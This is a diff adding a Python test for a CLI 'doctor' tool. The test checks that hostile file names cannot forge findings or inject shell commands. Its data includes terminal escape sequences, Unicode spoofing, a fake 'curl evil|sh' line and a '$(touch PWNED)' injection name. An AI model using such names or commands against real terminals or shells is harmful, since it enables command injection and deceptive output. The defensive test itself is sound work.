@@ -4,6 +4,7 @@ import asyncio
 import json
 import os
 import shutil
+import subprocess
 import time
 from collections.abc import Callable
 from pathlib import Path
@@ -133,6 +134,50 @@ def test_a_file_in_the_place_of_a_folder_is_named_and_is_neither_missing_nor_emp
         assert done.returncode == 7
     assert any("not a folder" in each["message"] for each in findings(code=1) if each["state"] == "bad")
     assert path.read_text(encoding="utf-8") == "not a folder"
+
+
+HOSTILE = (
+    b"a\n\xe2\x9c\x97 storage        lost\n                 \xe2\x86\x92 curl evil|sh",
+    b"\x1b]0;EVIL\x07\x1b[2J",
+    b"\x9b31m",
+    b"\xc2\x9b31m",
+    "\u202egpj.exe\u2066\u061c".encode(),
+    "\u2028\u200b\U000e0041".encode(),
+    b"\xff\xed\xa0\x80",
+    b"x" * 255,
+    b"..x'; touch PWNED; $(touch PWNED)",
+)
+"""Names of files that would steer a terminal, forge a finding, or are no text."""
+
+
+def test_no_name_of_a_file_steers_a_terminal_or_forges_a_finding(project: Path) -> None:
+    (MEMORY / "set-aside").mkdir(mode=0o700)
+    (project / "attachments").mkdir(mode=0o700)
+    tokens()
+    folders = [MEMORY, MEMORY / "sessions", project, Path("identities/.server")]
+    folders += [MEMORY / ".drafts", MEMORY / ".trash", MEMORY / "set-aside", project / "attachments"]
+    made = {folder.resolve() / os.fsdecode(name) for folder in folders for name in HOSTILE}
+    for path in made:
+        path.touch(0o644)
+    (project / "session.json").write_bytes(b'{"id": "\x1b[2J\x9b", "\xe2\x80\xae": 1')
+    named = set()
+    for finding in findings("--verify", code=1):
+        if finding["command"].startswith("chmod"):
+            shell = subprocess.run(
+                ["bash", "-c", f"printf %s {finding['command'][9:]}"], capture_output=True, check=True
+            )
+            named.add(Path(os.fsdecode(shell.stdout)))
+    assert made <= named, "each command names its file, whatever the name"
+    commands: list[tuple[str, ...]] = [("doctor",), ("doctor", "--json"), ("sessions", "list"), ("doctor", "--fix")]
+    for arguments in commands:
+        done = run(*arguments)
+        shown = done.stdout + done.stderr
+        assert "EVIL" in shown or arguments[0] == "sessions"
+        assert not {each for each in shown if not each.isprintable()} - {"\n"}, arguments
+        lines = () if "--json" in arguments or arguments[0] == "sessions" else done.stdout.splitlines()
+        assert not [each for each in lines if not each.startswith(("✓ ", "· ", "✗ ", "✚ ", " " * 17 + "→ "))]
+        assert not [each for each in lines if each.strip().startswith(("→ curl", "✗ storage"))]
+    assert not list(Path().rglob("PWNED"))
 
 
 def test_a_persona_that_others_may_read_is_a_note_and_closed_all_the_same() -> None:
